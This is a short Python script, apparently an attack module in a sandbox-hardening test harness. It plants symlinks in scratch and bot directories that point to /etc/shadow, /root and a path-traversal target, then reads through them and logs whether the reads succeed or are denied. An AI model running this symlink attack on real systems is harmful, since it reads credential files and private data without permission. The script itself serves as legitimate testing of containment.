"""Plants symlinks to host secrets in scratch (and tries in /bot), then reads through them."""
import os
import attacklib


def attack(tick):
    links = {"/scratch/shadow": "/etc/shadow", "/scratch/root": "/root", "/scratch/up": "../../../../.."}
    for target in attacklib.targets().get("read", []):
        links["/scratch/t%d" % len(links)] = target
    links["/bot/planted"] = "/etc/shadow"
    for link, target in links.items():
        try:
            os.symlink(target, link)
            attacklib.result("symlink " + link, "planted")
        except OSError as error:
            attacklib.result("symlink " + link, "DENIED %s" % error.strerror)
            continue
        try:
            with open(link, "rb") as f:
                attacklib.result("follow " + link, "READ " + f.read(100).decode("latin-1"))
        except OSError as error:
            attacklib.result("follow " + link, "DENIED %s" % error.strerror)


attacklib.run(attack)
